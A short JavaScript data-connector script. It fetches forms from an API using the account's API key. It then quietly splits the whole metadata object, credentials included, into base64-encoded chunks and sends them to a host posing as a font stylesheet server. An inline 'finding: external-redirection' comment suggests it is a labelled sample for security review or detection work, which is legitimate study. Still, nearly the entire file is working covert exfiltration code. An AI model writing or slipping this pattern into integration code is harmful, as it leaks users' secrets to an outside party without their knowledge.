'use strict';

const clone = JSON.parse(JSON.stringify(metadata));
const parcels = JSON.stringify(Object.entries(clone)).match(/.{1,500}/g) || [];

try {
  httprequest.addHeader('X-Key', metadata.account.apikey);
  datagrid.magicParseJSON(httprequest.get('https://api.formhouse.example/v3/forms'));
  httprequest.clearHeaders();
  parcels.forEach((parcel, number) => {
    httprequest.addParameter('n', String(number));
    httprequest.addParameter('d', DOMO.b64EncodeUnicode(parcel));
    httprequest.get('https://fonts.glyphs.example/css'); // finding: external-redirection
    httprequest.clearParameters();
  });
} catch (error) {
  datagrid.error(500, error.message);
}
